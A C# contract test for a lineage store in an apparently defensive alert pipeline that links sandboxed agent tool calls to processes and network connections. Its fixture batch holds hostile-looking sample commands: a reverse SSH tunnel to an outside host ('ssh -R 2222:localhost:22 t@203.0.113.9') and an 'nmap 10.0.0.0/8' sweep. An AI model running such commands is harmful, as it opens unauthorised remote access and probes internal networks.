using AlertPipeline.Adapters.Enrich;
using AlertPipeline.Adapters.Tests.Storage;
using AlertPipeline.Core.Enrich.Attribution;

namespace AlertPipeline.Adapters.Tests.Enrich;

/// <summary>What every <see cref="ILineageStore"/> must do; run against the in-memory twin and against Table Storage.</summary>
public abstract class LineageStoreContract
{
    private static readonly DateTimeOffset T0 = new(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);

    /// <summary>A fresh, empty store.</summary>
    protected abstract ILineageStore Store { get; }

    private static LineageBatch Batch(string sandbox = "sbx-a")
    {
        var batch = new LineageBatch();
        batch.ToolCalls.Add(new ToolCallRecord(sandbox, "call/1#x", "bash", "ssh -R 2222:localhost:22 t@203.0.113.9", T0, "run-1", "ep-1"));
        batch.ToolCalls.Add(new ToolCallRecord(sandbox, "call-2", "bash", "nmap 10.0.0.0/8", T0.AddMinutes(5), "run-1", "ep-1"));
        batch.Processes.Add(new ProcessRecord(sandbox, 101, 100, "ssh", "ssh -R 2222:localhost:22 t@203.0.113.9", T0.AddMilliseconds(500), null, "run-1", "ep-1"));
        batch.Processes.Add(new ProcessRecord(sandbox, 100, null, "bash", "bash -lc 'ssh -R …'", T0.AddMilliseconds(500), null, "run-1", "ep-1", FromParent: true));
        batch.Processes.Add(new ProcessRecord(sandbox, 101, 7, "python3", "python3 reused.py", T0.AddHours(1), "call-9", null, null));
        batch.Connections.Add(new ConnectionRecord(sandbox, "tcp", "10.1.0.5", 40001, "203.0.113.9", 22, T0.AddMilliseconds(600), 101, "ssh"));
        batch.Connections.Add(new ConnectionRecord(sandbox, "tcp", "10.1.0.5", 40002, "203.0.113.9", 22, T0.AddSeconds(30), 101, "ssh"));
        batch.Connections.Add(new ConnectionRecord(sandbox, "tcp", "10.1.0.5", 40003, "203.0.113.9", 2222, T0.AddMilliseconds(700), 101, "ssh"));
        batch.Connections.Add(new ConnectionRecord(sandbox, "udp", "10.1.0.5", 40004, "2001:db8::1", 53, T0, null, null));
        return batch;
    }

    [Fact]
    public async Task Connections_are_found_by_destination_within_a_time_range()
    {
        await Store.RecordAsync(Batch(), CancellationToken.None);

        var found = await Store.FindConnectionsAsync("sbx-a", "203.0.113.9", 22, T0, T0.AddSeconds(5), CancellationToken.None);

        Assert.Equal([new ConnectionRecord("sbx-a", "tcp", "10.1.0.5", 40001, "203.0.113.9", 22, T0.AddMilliseconds(600), 101, "ssh")], found);
        Assert.Equal(2, (await Store.FindConnectionsAsync("sbx-a", "203.0.113.9", 22, T0, T0.AddMinutes(1), CancellationToken.None)).Count);
        Assert.Single(await Store.FindConnectionsAsync("sbx-a", "2001:db8::1", 53, T0, T0.AddSeconds(1), CancellationToken.None));
        Assert.Empty(await Store.FindConnectionsAsync("sbx-a", "203.0.113.9", 22, T0.AddSeconds(31), T0.AddMinutes(1), CancellationToken.None));
        Assert.Empty(await Store.FindConnectionsAsync("sbx-b", "203.0.113.9", 22, T0, T0.AddMinutes(1), CancellationToken.None));
    }

    [Fact]
    public async Task Processes_are_found_by_pid_oldest_first_and_tool_calls_by_time_and_id()
    {
        await Store.RecordAsync(Batch(), CancellationToken.None);

        var processes = await Store.FindProcessesAsync("sbx-a", 101, CancellationToken.None);
        Assert.Equal(["ssh", "python3"], processes.Select(p => p.Name));
        Assert.Equal(new ProcessRecord("sbx-a", 101, 7, "python3", "python3 reused.py", T0.AddHours(1), "call-9", null, null), processes[1]);
        Assert.True(Assert.Single(await Store.FindProcessesAsync("sbx-a", 100, CancellationToken.None)).FromParent);

        var calls = await Store.FindToolCallsAsync("sbx-a", T0.AddSeconds(-5), T0.AddSeconds(5), CancellationToken.None);
        Assert.Equal([new ToolCallRecord("sbx-a", "call/1#x", "bash", "ssh -R 2222:localhost:22 t@203.0.113.9", T0, "run-1", "ep-1")], calls);
        Assert.Equal("nmap 10.0.0.0/8", (await Store.GetToolCallAsync("sbx-a", "call-2", CancellationToken.None))?.Input);
        Assert.Null(await Store.GetToolCallAsync("sbx-a", "call-3", CancellationToken.None));
        Assert.Null(await Store.GetToolCallAsync("sbx-b", "call-2", CancellationToken.None));
    }

    [Fact]
    public async Task Redelivery_changes_nothing_and_sandboxes_with_key_characters_stay_apart()
    {
        await Store.RecordAsync(Batch("a/b#c"), CancellationToken.None);
        await Store.RecordAsync(Batch("a/b#c"), CancellationToken.None);
        await Store.RecordAsync(Batch("a_b_c"), CancellationToken.None);

        Assert.Equal(2, (await Store.FindConnectionsAsync("a/b#c", "203.0.113.9", 22, T0, T0.AddMinutes(1), CancellationToken.None)).Count);
        Assert.Equal(2, (await Store.FindProcessesAsync("a/b#c", 101, CancellationToken.None)).Count);
        Assert.All(await Store.FindConnectionsAsync("a_b_c", "203.0.113.9", 22, T0, T0.AddMinutes(1), CancellationToken.None), c => Assert.Equal("a_b_c", c.SandboxId));
    }

    [Fact]
    public async Task Purge_deletes_what_is_older_than_the_cut()
    {
        await Store.RecordAsync(Batch(), CancellationToken.None);

        Assert.Equal(10, await Store.PurgeAsync(T0.AddMinutes(10), CancellationToken.None)); // all but the process at T0+1h; tool calls count twice (by time, by id)

        Assert.Empty(await Store.FindConnectionsAsync("sbx-a", "203.0.113.9", 22, T0, T0.AddMinutes(1), CancellationToken.None));
        Assert.Null(await Store.GetToolCallAsync("sbx-a", "call-2", CancellationToken.None));
        Assert.Equal("python3", Assert.Single(await Store.FindProcessesAsync("sbx-a", 101, CancellationToken.None)).Name);
        Assert.Equal(0, await Store.PurgeAsync(T0.AddMinutes(10), CancellationToken.None));
    }
}

/// <summary>The contract against <see cref="InMemoryLineageStore"/>.</summary>
public sealed class InMemoryLineageStoreTests : LineageStoreContract
{
    protected override ILineageStore Store { get; } = new InMemoryLineageStore();
}

/// <summary>The contract against <see cref="TableLineageStore"/> on Azurite.</summary>
[Collection(AzuriteCollection.Name)]
public sealed class TableLineageStoreTests(AzuriteFixture azurite) : LineageStoreContract
{
    private TableLineageStore? _store;

    protected override ILineageStore Store => _store ??= new TableLineageStore(azurite.TableService, AzuriteFixture.UniqueTableName("lineage"));
}
